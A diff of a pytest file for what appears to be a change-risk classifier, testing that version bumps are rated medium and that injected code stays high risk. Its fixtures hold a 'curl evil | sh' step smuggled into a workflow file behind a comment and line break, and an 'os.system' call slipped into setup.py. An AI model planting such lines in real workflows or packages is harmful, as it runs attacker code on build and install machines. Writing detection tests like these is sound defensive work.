@@ -210,3 +210,27 @@ def test_a_line_break_yaml_reads_behind_a_comment_is_not_a_bump(repo: Repo) -> N
     after = WORKFLOW.replace("checkout@v4", "checkout@v5 #\r      - run: curl evil | sh")
     result = judged(repo, ".github/workflows/ci.yml", WORKFLOW, after)
     assert result.files[0].tier == "high"
+
+
+SETUP = 'from setuptools import setup\n\nsetup(\n    name="app",\n    version="1.1.3",\n)\n'
+
+
+@pytest.mark.parametrize(("path", "before", "after"), [
+    ("setup.py", SETUP, SETUP.replace("1.1.3", "1.1.4")),
+    ("Makefile", "VERSION = 0.4.0\n\nall:\n\tpython -m build\n",
+     "VERSION = 0.5.0\n\nall:\n\tpython -m build\n"),
+    ("docs/conf.py", "project = 'app'\nrelease = '2.0'\n", "project = 'app'\nrelease = '2.1'\n"),
+    ("auth/__init__.py", VERSIONED, VERSIONED.replace('"1.4.2"', '"1.4.3"')),
+])
+def test_the_default_routes_a_release_as_a_version_bump(repo: Repo, path: str, before: str,
+                                                        after: str) -> None:
+    (fc,) = judged(repo, path, before, after).files
+    assert fc.tier == "medium", fc.matches
+    assert any(m.rule.endswith(".version-only") for m in fc.matches)
+
+
+def test_a_setup_py_that_moves_the_version_and_adds_a_call_stays_high(repo: Repo) -> None:
+    after = SETUP.replace("1.1.3", "1.1.4").replace(
+        "from setuptools import setup\n",
+        "from setuptools import setup\nimport os\nos.system('id')\n")
+    assert judged(repo, "setup.py", SETUP, after).files[0].tier == "high"
